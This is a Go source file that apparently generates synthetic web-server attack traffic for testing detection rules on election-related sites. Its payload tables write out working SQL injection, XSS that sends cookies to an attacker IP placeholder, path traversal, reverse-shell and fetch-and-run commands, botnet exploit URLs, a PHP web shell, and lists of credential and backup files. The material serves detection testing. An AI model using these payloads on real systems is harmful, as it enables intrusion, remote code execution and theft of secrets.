package simulate

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"time"
)

// Attack classes, named as genlog.py names them (plus webattack and flood).
const (
	Probe      = "probe"      // many 404s on paths that do not exist: a wordlist scan
	Sensitive  = "sensitive"  // secrets, backups and dumps (.env, .git/config, *.sql)
	SQLi       = "sqli"       // SQL injection in the query
	XSS        = "xss"        // cross-site scripting in the query
	Traversal  = "traversal"  // path traversal and local file inclusion
	RCE        = "rce"        // command injection and the botnets' exploit requests
	WebAttack  = "webattack"  // remote file inclusion, PHP and Java injection
	BadUA      = "badua"      // an attack tool's user agent
	Bruteforce = "bruteforce" // many failed POSTs to a sign-in path
	Scrape     = "scrape"     // one client looking up many NIKs on the voter lookup
	Flood      = "flood"      // hundreds of requests a second against one asset
)

// Classes lists every attack class the simulator mixes in. Credential
// stuffing (many user names from one client) is not among them: it is
// detected from authentication logs, which the simulator does not write.
func Classes() []string {
	return []string{Probe, Sensitive, SQLi, XSS, Traversal, RCE, WebAttack, BadUA, Bruteforce, Scrape, Flood}
}

// Scenario is the id of the behaviour scenario a class is meant to trip
// (internal/detect/scenario).
func Scenario(class string) string {
	return map[string]string{
		Probe: "http-probing", Sensitive: "http-sensitive-files", SQLi: "http-sqli", XSS: "http-xss",
		Traversal: "http-path-traversal", RCE: "http-rce", WebAttack: "http-web-attack", BadUA: "http-scanner",
		Bruteforce: "http-bruteforce", Scrape: "voter-data-scraping", Flood: "http-flood",
	}[class]
}

// targets says which sites an attack class goes for (nil: any).
func targets(class string) []string {
	switch class {
	case Scrape:
		return []string{KindLookup}
	case Bruteforce:
		return []string{KindSystem, KindAPI, KindSite}
	case Flood:
		return []string{KindResults, KindLookup, KindSite}
	}
	return nil
}

// Tools' and scripts' user agents that attack tools' lists do not name:
// a payload attack is then found by its payload, not by its agent.
var attackerAgents = []weighted[func(r *rand.Rand) string]{
	{3, func(r *rand.Rand) string {
		return fmt.Sprintf("python-requests/2.%d.%d", between(r, 25, 32), between(r, 0, 3))
	}},
	{2, func(r *rand.Rand) string {
		return one(r, []string{"curl/7.68.0", "curl/7.81.0", "curl/7.88.1", "curl/8.4.0", "curl/8.5.0", "curl/8.9.1"})
	}},
	{1, func(*rand.Rand) string { return "Go-http-client/1.1" }},
	{4, desktopAgent},
	{1, func(*rand.Rand) string {
		return "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
	}},
}

func attackerAgent(r *rand.Rand) string { return pick(r, attackerAgents)(r) }

// attack writes one attacker's script against site si.
func attack(r *rand.Rand, si *siteInfo, class string) script {
	switch class {
	case Probe:
		return probe(r, si)
	case Sensitive:
		return hunt(r, si)
	case SQLi, XSS, Traversal, RCE, WebAttack:
		return inject(r, si, class)
	case BadUA:
		return toolScan(r, si)
	case Bruteforce:
		return bruteforce(r, si)
	case Scrape:
		return scrape(r, si)
	case Flood:
		return flood(r, si)
	}
	panic("simulate: unknown attack class " + class)
}

// gap is the pause between an attacker's requests.
func gap(r *rand.Rand, lo, hi time.Duration) time.Duration {
	return lo + time.Duration(r.Int64N(int64(hi-lo)+1))
}

var probeDirs = []string{"admin", "administrator", "old", "test", "dev", "cms", "api/v0", "api/v2", "portal", "webadmin", "manager",
	"panel", "cpanel", "console", "phpmyadmin", "pma", "adminer", "jenkins", "actuator", "solr", "owa", "ecp", "vpn", "remote",
	"laravel", "storage", "vendor", "assets/uploads", "files", "tmp", "staging", "beta", "siakba", "sidalih-lama", "simpeg"}

var probeFiles = []string{"index.php", "login.php", "admin.php", "install.php", "setup.php", "config.inc.php", "upload.php",
	"shell.php", "cmd.php", "home.aspx", "default.asp", "login.jsp", "status", "health", "env", "info.php", "xmlrpc.php",
	"readme.html", "LICENSE.txt", "CHANGELOG.md", "composer.json", "package.json", "swagger.json", "api-docs", "graphql"}

// probe walks a wordlist: paths that mostly do not exist.
func probe(r *rand.Rand, si *siteInfo) script {
	s := script{ua: attackerAgent(r)}
	n := between(r, 15, 80)
	fast := r.IntN(2) == 0
	seen := map[string]bool{}
	var t time.Duration
	for len(s.reqs) < n {
		var path string
		switch r.IntN(3) {
		case 0:
			path = "/" + one(r, probeDirs) + "/"
		case 1:
			path = "/" + one(r, probeDirs) + "/" + one(r, probeFiles)
		default:
			path = fmt.Sprintf("/%s/%d.php", one(r, probeDirs), r.IntN(1000000))
		}
		if seen[path] {
			continue
		}
		seen[path] = true
		status, size := 404, 153
		if r.IntN(8) == 0 {
			status, size = 403, 146
		}
		s.add(t, "GET", path, status, size, "")
		if fast {
			t += gap(r, 50*time.Millisecond, 600*time.Millisecond)
		} else {
			t += gap(r, 500*time.Millisecond, 6*time.Second)
		}
	}
	return s
}

// secrets are files that must never be served, and often are.
var secrets = []string{"/.env", "/.env.production", "/.env.bak", "/.git/config", "/.git/HEAD", "/.git/index", "/.svn/entries",
	"/backup.sql", "/db.sql.gz", "/database.sql", "/dump.sql", "/dpt_2024.sql.gz", "/sidalih_backup.tar.gz", "/backup/db.zip",
	"/wp-config.php.bak", "/config.php~", "/config.php.old", "/.aws/credentials", "/.ssh/id_rsa", "/id_rsa", "/phpinfo.php",
	"/server-status", "/.DS_Store", "/.htpasswd", "/admin/.htpasswd", "/web.config", "/.vscode/sftp.json", "/.docker/config.json",
	"/storage/backup.tgz", "/index.php.swp", "/data.sqlite"}

// hunt asks for secrets and backups; the odd one is really there.
func hunt(r *rand.Rand, si *siteInfo) script {
	s := script{ua: attackerAgent(r)}
	n := between(r, 4, 24)
	host := strings.Split(si.Host, ".")[0]
	var t time.Duration
	for i := range n {
		path := one(r, secrets)
		if i < 2 {
			path = one(r, []string{"/.env", "/.git/config", "/.git/HEAD", "/backup.sql", "/wp-config.php.bak", "/.aws/credentials"})
		} else if r.IntN(6) == 0 {
			path = "/" + host + one(r, []string{".zip", ".tar.gz", ".sql", ".bak"})
		}
		status, size := 404, 153
		switch f := r.Float64(); {
		case f < 0.2:
			status, size = 403, 146
		case f < 0.24 && i > 0:
			status, size = 200, between(r, 23, 4000) // found one
		}
		s.add(t, "GET", path, status, size, "")
		t += gap(r, 200*time.Millisecond, 4*time.Second)
	}
	return s
}

// endpoint is where a payload goes: a page and its parameter.
type endpoint struct{ path, param string }

func endpoints(si *siteInfo) []endpoint {
	common := []endpoint{{"/cari", "q"}, {"/berita", "id"}, {"/berita", "page"}, {"/pengumuman", "kategori"}, {"/unduh", "file"}}
	switch si.Kind {
	case KindLookup:
		return []endpoint{{"/api/dpt/cek", "nik"}, {"/", "lang"}, {"/cek", "kode"}}
	case KindResults:
		return append(common, endpoint{"/api/hasil/ppwp", "wilayah"}, endpoint{"/hasil/tps", "kode"})
	case KindSystem, KindAPI:
		return []endpoint{{"/api/data", "id"}, {"/api/data", "sort"}, {"/laporan", "tahun"}, {"/api/pengguna", "username"}, {"/dokumen", "file"}}
	}
	return common
}

// Payload templates; {n} is a number, {ip} an attacker's server.
var payloads = map[string][]string{
	SQLi: {
		"{n}' OR '1'='1", "{n}' OR 1=1-- -", "{n} UNION ALL SELECT NULL,NULL,CONCAT(username,0x3a,password) FROM users-- -",
		"{n}' AND SLEEP(5)-- -", "{n}' AND (SELECT 8127 FROM (SELECT(SLEEP(5)))aBcD)-- xYzQ",
		"{n}' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- -", "{n};SELECT pg_sleep(5)--",
		"{n} AND 1=CONVERT(int,(SELECT @@version))", "-{n} UNION SELECT 1,table_name,3 FROM information_schema.tables-- -",
		"{n}' ORDER BY 12-- -", "admin'--", "{n}') OR ('a'='a", "{n}; WAITFOR DELAY '0:0:5'--",
		"(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)", "{n}' UNION SELECT nik,nama,alamat FROM pemilih-- -",
		"{n}%' AND 2>1 AND '%'='", "{n}' AND updatexml(1,concat(0x7e,user()),1)-- -",
	},
	XSS: {
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=fetch('//{ip}/?c='+document.cookie)>",
		"javascript:alert(document.domain)", "<iframe src=javascript:alert(1)>", "'-alert(1)-'", "<body onload=alert('XSS')>",
		"<details open ontoggle=confirm(1)>", "\"><script src=//{ip}/x.js></script>", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
		"<a href=\"javascript:alert(1)\">klik</a>", "</title><script>alert(document.cookie)</script>", "<input autofocus onfocus=alert(1)>",
	},
	Traversal: {
		"../../../../etc/passwd", "../../../../../../etc/shadow", "....//....//....//etc/hosts", "..%2f..%2f..%2f..%2fetc%2fpasswd",
		"%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows/win.ini", "../../../../../../proc/self/environ", "..\\..\\..\\..\\windows\\win.ini",
		"/etc/passwd", "../../../var/www/html/.env", "..%252f..%252f..%252fetc%252fpasswd", "php://filter/convert.base64-encode/resource=../config.php",
		"file:///etc/passwd", "../../../../../../../../boot.ini",
	},
	RCE: {
		";cat /etc/passwd", "$(id)", "|id", "`uname -a`", "||wget http://{ip}/x.sh|sh", ";curl -s http://{ip}/b.sh|bash",
		"127.0.0.1;nc -e /bin/sh {ip} 4444", "&&whoami", "${jndi:ldap://{ip}:1389/a}", ";powershell -enc SQBFAFgA",
		"$(wget -qO- http://{ip}/m.sh|sh)", "|busybox wget http://{ip}/mozi.a -O /tmp/m;sh /tmp/m", ";echo${IFS}dGVzdA==|base64${IFS}-d",
	},
	WebAttack: {
		"http://{ip}/shell.txt?", "https://{ip}/c99.txt??", "php://input", "<?php system($_GET['c']); ?>",
		"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "O:8:\"stdClass\":1:{s:4:\"exec\";s:2:\"id\";}",
		"expect://id", "{{7*7}}${7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ftp://{ip}/x.php",
	},
}

// Exploit requests that botnets send whole, regardless of the site.
var exploits = map[string][]string{
	RCE: {
		"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
		"/shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?cmd=id",
		"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ip}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
	},
	Traversal: {
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/static/..%2f..%2f..%2f..%2fetc/passwd", "/assets/../../../../etc/passwd",
		"/unduh/..%2f..%2f..%2f..%2fetc%2fpasswd",
	},
	WebAttack: {
		"/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
		"/index.php?page=http://{ip}/r57.txt?",
	},
}

// payloadTarget is one request target carrying a payload of class.
func payloadTarget(r *rand.Rand, si *siteInfo, class, ip string) string {
	if x := exploits[class]; len(x) > 0 && r.IntN(5) == 0 {
		return strings.ReplaceAll(one(r, x), "{ip}", ip)
	}
	p := one(r, payloads[class])
	p = strings.ReplaceAll(p, "{n}", fmt.Sprint(between(r, 1, 9999)))
	p = strings.ReplaceAll(p, "{ip}", ip)
	e := one(r, endpoints(si))
	if e.param == "nik" && class == SQLi {
		p = nik(r) + p[strings.IndexFunc(p, func(c rune) bool { return c < '0' || c > '9' }):]
	}
	var q string
	switch r.IntN(3) {
	case 0: // as a browser or a library encodes it
		q = url.QueryEscape(p)
	case 1: // as a path-style encoder does: spaces as %20
		q = url.PathEscape(p)
	default: // as typed with curl: only what the request line cannot hold is encoded
		q = strings.NewReplacer(" ", "%20", "\"", "%22", "#", "%23", "&", "%26", "+", "%2B").Replace(p)
	}
	return e.path + "?" + e.param + "=" + q
}

// inject sends payloads of one class to the site's parameters, after a
// look at the front page.
func inject(r *rand.Rand, si *siteInfo, class string) script {
	s := script{ua: attackerAgent(r)}
	ip := attackerIP(r.IntN(762)).String() // the attacker's own server, elsewhere in the ranges
	var t time.Duration
	if r.IntN(2) == 0 {
		s.add(t, "GET", "/", 200, between(r, 18000, 40000), "")
		t += gap(r, time.Second, 20*time.Second)
	}
	for range between(r, 4, 25) {
		status := pick(r, []weighted[int]{{5, 200}, {2, 400}, {2, 403}, {1, 500}})
		s.add(t, "GET", payloadTarget(r, si, class, ip), status, between(r, 150, 9000), "")
		t += gap(r, 300*time.Millisecond, 8*time.Second)
	}
	return s
}

type tool struct {
	ua   string
	n    [2]int // requests
	wp   bool   // a WordPress scanner
	test bool   // Nikto numbers its tests in the agent
}

var tools = []tool{
	{ua: "sqlmap/1.8.%d#stable (https://sqlmap.org)", n: [2]int{10, 40}},
	{ua: "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)", n: [2]int{15, 60}, test: true},
	{ua: "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", n: [2]int{10, 50}},
	{ua: "WPScan v3.8.%d (https://wpscan.com/wordpress-security-scanner)", n: [2]int{8, 30}, wp: true},
	{ua: "gobuster/3.%d", n: [2]int{15, 60}},
	{ua: "Fuzz Faster U Fool v2.1.%d-dev", n: [2]int{15, 60}},
	{ua: "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", n: [2]int{1, 3}},
	{ua: "Mozilla/5.0 zgrab/0.x", n: [2]int{1, 3}},
	{ua: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", n: [2]int{4, 20}},
	{ua: "WhatWeb/0.5.%d", n: [2]int{2, 6}},
}

// toolScan is an attack tool, named in its user agent, looking around.
func toolScan(r *rand.Rand, si *siteInfo) script {
	tl := one(r, tools)
	v := between(r, 1, 9)
	ua := tl.ua
	if strings.Contains(ua, "%") && !tl.test {
		ua = fmt.Sprintf(ua, v)
	}
	s := script{ua: ua}
	var t time.Duration
	for i := range between(r, tl.n[0], tl.n[1]) {
		path, status, size := "/", 200, between(r, 18000, 40000)
		switch {
		case i == 0:
		case tl.wp:
			path = one(r, []string{"/wp-json/wp/v2/users", "/readme.html", "/wp-content/plugins/", "/xmlrpc.php", "/wp-login.php", "/wp-content/debug.log"})
			status, size = 404, 153
		case r.IntN(3) == 0:
			path, size = citizenPage(r)
		default:
			path = "/" + one(r, probeDirs) + "/" + one(r, probeFiles)
			status, size = 404, 153
		}
		q := s.add(t, "GET", path, status, size, "")
		if tl.test {
			q.ua = fmt.Sprintf(tl.ua, between(r, 1, 7000))
		}
		t += gap(r, 100*time.Millisecond, 2*time.Second)
	}
	return s
}

// bruteforce guesses passwords on the site's sign-in; now and then it
// gets in.
func bruteforce(r *rand.Rand, si *siteInfo) script {
	ua := attackerAgent(r)
	if r.IntN(5) == 0 {
		ua = "Mozilla/5.0 (Hydra)"
	}
	s := script{ua: ua}
	login := si.login
	var t time.Duration
	s.add(t, "GET", login, 200, between(r, 6000, 9000), "")
	t += gap(r, time.Second, 5*time.Second)
	n := between(r, 20, 120)
	for i := range n {
		status, size := 401, between(r, 6100, 6300)
		if i == n-1 && r.IntN(10) == 0 {
			status, size = 302, 0
		}
		s.add(t, "POST", login, status, size, "https://"+si.Host+login)
		t += gap(r, 400*time.Millisecond, 5*time.Second)
	}
	return s
}

// scrape harvests the voter register through the public lookup: a
// sequence of one district's NIKs, or a leaked list's.
func scrape(r *rand.Rand, si *siteInfo) script {
	ua := pick(r, []weighted[func(*rand.Rand) string]{
		{3, func(r *rand.Rand) string { return fmt.Sprintf("python-requests/2.%d.0", between(r, 25, 32)) }},
		{3, func(r *rand.Rand) string { return citizenAgent(r) }},
		{1, func(*rand.Rand) string { return "axios/1.6.8" }},
		{1, func(*rand.Rand) string { return "Go-http-client/2.0" }},
	})(r)
	s := script{ua: ua}
	n := between(r, 30, 400)
	lo, hi := 200*time.Millisecond, 3*time.Second
	if r.IntN(4) == 0 {
		lo, hi = 3*time.Second, 20*time.Second // slow, to stay under a rate limit
	}
	seq := r.IntN(2) == 0
	prov, kab, kec := pick(r, nikProvinces), between(r, 1, 24), between(r, 1, 30)
	day, month, year := between(r, 1, 28)+40*r.IntN(2), between(r, 1, 12), between(r, 1960, 2005)
	serial := between(r, 1, 200)
	var t time.Duration
	for range n {
		var id string
		if seq {
			id = nikOf(prov, kab, kec, day, month, year, serial)
			if serial++; serial > 2500 {
				serial, kec = 1, kec%30+1
			}
		} else {
			id = nik(r)
		}
		size := between(r, 640, 920)
		if r.IntN(3) == 0 {
			size = between(r, 180, 220)
		}
		target := "/api/dpt/cek?nik=" + id
		if r.IntN(3) > 0 {
			target += "&token=" + token(r, 40) // a captcha farm's answers
		}
		s.add(t, "GET", target, 200, size, "https://"+si.Host+"/")
		t += gap(r, lo, hi)
	}
	return s
}

// flood sends hundreds of requests a second for a few seconds, busting
// the cache with a random query, with a rotating user agent.
func flood(r *rand.Rand, si *siteInfo) script {
	s := script{ua: citizenAgent(r)}
	rps := between(r, 150, 400)
	n := between(r, 800, 1500)
	n = min(n, rps*8)
	path := one(r, []string{"/", "/hasil/ppwp", "/berita", "/cari"})
	if si.Kind == KindLookup {
		path = "/"
	}
	rotate := r.IntN(2) == 0
	var t time.Duration
	for i := range n {
		status, size := 200, between(r, 18000, 40000)
		if i > n/3 && r.IntN(3) > 0 {
			status, size = 503, 197 // the upstream gives way
		}
		q := s.add(t, "GET", fmt.Sprintf("%s?%d", path, r.IntN(1<<30)), status, size, "")
		if rotate {
			q.ua = citizenAgent(r)
		}
		t += time.Duration(r.ExpFloat64() * float64(time.Second) / float64(rps))
	}
	return s
}
